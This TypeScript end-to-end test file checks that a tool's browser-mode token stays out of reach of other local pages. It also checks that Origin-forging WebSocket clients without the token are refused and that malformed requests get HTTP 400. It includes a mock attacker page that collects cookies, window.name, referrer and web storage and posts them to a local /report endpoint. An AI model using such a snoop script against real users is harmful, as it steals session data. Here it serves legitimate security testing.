// The browser mode's token stays in its tab: driven through the real flow in Chromium against
// `nsinspect serve`, then a listener of our own on another loopback port (the attacker's page)
// must receive it by no cookie, header or body; and a client that forges the Origin but has no
// token gets no socket.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { type Browser } from 'playwright-core';
import WebSocket from 'ws';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { launchChromium } from '../support/chromium.js';
import { describeWithEngine } from '../support/engine.js';
import { startServe, stopServe } from '../support/serve.js';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

// What the attacker's page sends home: everything a page on another port can read in the browser.
const SNOOP = `<!doctype html><script>
  const dump = (s) => { const o = {}; for (let i = 0; i < s.length; i++) o[s.key(i)] = s.getItem(s.key(i)); return o; };
  fetch('/report', { method: 'POST', body: JSON.stringify({ where: location.pathname, cookie: document.cookie,
    name: window.name, referrer: document.referrer, local: dump(localStorage), session: dump(sessionStorage) }) });
</script>`;

interface Attacker {
  url: string;
  /** Every request as received: request line, all headers, body. */
  requests: string[];
  reports: number;
  close(): Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const state = { requests: [] as string[], reports: 0 };
  const server: Server = createServer((req: IncomingMessage, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      state.requests.push(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n\n${body}`);
      if (req.url === '/report') state.reports++;
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(req.method === 'GET' ? SNOOP : 'ok');
    });
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    get requests() {
      return state.requests;
    },
    get reports() {
      return state.reports;
    },
    close: () => new Promise<void>((ok) => server.close(() => ok())),
  };
}

function socket(url: string, opts: { origin: string; protocols?: string[]; headers?: Record<string, string> }): Promise<WebSocket> {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(url, opts.protocols ?? [], { origin: opts.origin, headers: opts.headers ?? {} });
    ws.once('open', () => resolve(ws));
    ws.once('unexpected-response', (_req, res) => reject(new Error(`HTTP ${res.statusCode}`)));
    ws.once('error', reject);
  });
}

describeWithEngine('browser mode: the token stays in its tab', () => {
  vi.setConfig({ testTimeout: 120_000 });
  let serve: Awaited<ReturnType<typeof startServe>> | undefined;
  let attacker: Attacker | undefined;
  let browser: Browser | undefined;
  let token: string;
  let origin: string;

  beforeAll(async () => {
    for (const f of ['out/renderer/index.html', 'out/cli/nsinspect.cjs']) {
      if (!existsSync(`${ROOT}${f}`)) throw new Error(`${f} is missing: run \`npm run build\` before the e2e tests`);
    }
    serve = await startServe();
    token = new URL(serve.url).searchParams.get('token')!;
    origin = new URL(serve.url).origin;
    attacker = await startAttacker();
    browser = await launchChromium();
  }, 60_000);

  afterAll(async () => {
    await browser?.close().catch(() => undefined);
    await attacker?.close();
    await stopServe(serve?.child);
  });

  it('a page on another loopback port receives no token by cookie, header or body', async () => {
    const context = await browser!.newContext();
    try {
      const page = await context.newPage();
      await page.goto(serve!.url);
      // The real flow: the container list arrives over the socket the page opened with its token
      // (any container: the engine is shared, and a long list may not have reached ours yet).
      await page.locator('[data-container]').first().waitFor({ timeout: 60_000 });
      expect(await page.locator('[data-link]').count()).toBe(0);
      expect(page.url()).not.toContain(token);
      // The control: a cookie of serve's origin does reach the other port (cookies ignore ports),
      // so the check below would see a token kept in one.
      await context.addCookies([{ name: 'control', value: 'crosses-ports', url: `${origin}/` }]);
      // The attacker's page in another tab, then in the very tab that held the token.
      const other = await context.newPage();
      await other.goto(`${attacker!.url}/other-tab`);
      await page.goto(`${attacker!.url}/same-tab`);
      await expect.poll(() => attacker!.reports, { timeout: 20_000 }).toBe(2);
      const seen = attacker!.requests.join('\n---\n');
      expect(seen).toContain('control=crosses-ports');
      expect(seen).toContain('"where":"/same-tab"');
      expect(seen).not.toContain(token);
    } finally {
      await context.close();
    }
  });

  it('refuses the socket to a client that forges our Origin but has no token', async () => {
    const api = `${origin.replace('http:', 'ws:')}/api`;
    await expect(socket(api, { origin })).rejects.toThrow(/HTTP 401/);
    await expect(socket(`${api}?token=${token}`, { origin })).rejects.toThrow(/HTTP 401/);
    await expect(socket(api, { origin, protocols: ['nsinspect.v1'], headers: { Cookie: `nsinspect=${token}` } })).rejects.toThrow(
      /HTTP 401/,
    );
    // With the token, the same client is served: the refusals above are about the token alone.
    const ws = await socket(api, { origin, protocols: ['nsinspect.v1', `nsinspect.token.${token}`] });
    const answer = new Promise<{ id: number; result?: { status?: string } }>((ok) =>
      ws.on('message', (d) => {
        const m = JSON.parse(String(d));
        if (m.id === 1) ok(m);
      }),
    );
    ws.send(JSON.stringify({ id: 1, channel: 'engineState', args: [] }));
    expect((await answer).result?.status).toBeTypeOf('string');
    ws.close();
  });

  it('says on stderr, when it runs as root, that the token is the only guard', () => {
    // These tests run as root (describeWithEngine), and so does the serve they started.
    expect(process.getuid!()).toBe(0);
    expect(serve!.log()).toMatch(/WARNING: running as root[\s\S]*the token in the URL is the only guard/);
  });

  it('answers a malformed %-escape with 400 and keeps serving', async () => {
    const port = Number(new URL(serve!.url).port);
    const answer = await new Promise<string>((resolve, reject) => {
      const sock = connect(port, '127.0.0.1', () => sock.write('GET /%E0%A4%A HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n'));
      let out = '';
      sock.on('data', (d) => (out += d.toString()));
      sock.on('close', () => resolve(out));
      sock.on('error', reject);
    });
    expect(answer).toMatch(/^HTTP\/1\.1 400 /);
    expect((await fetch(`${origin}/`)).status).toBe(200);
    expect(serve!.child.exitCode).toBeNull();
  });
});
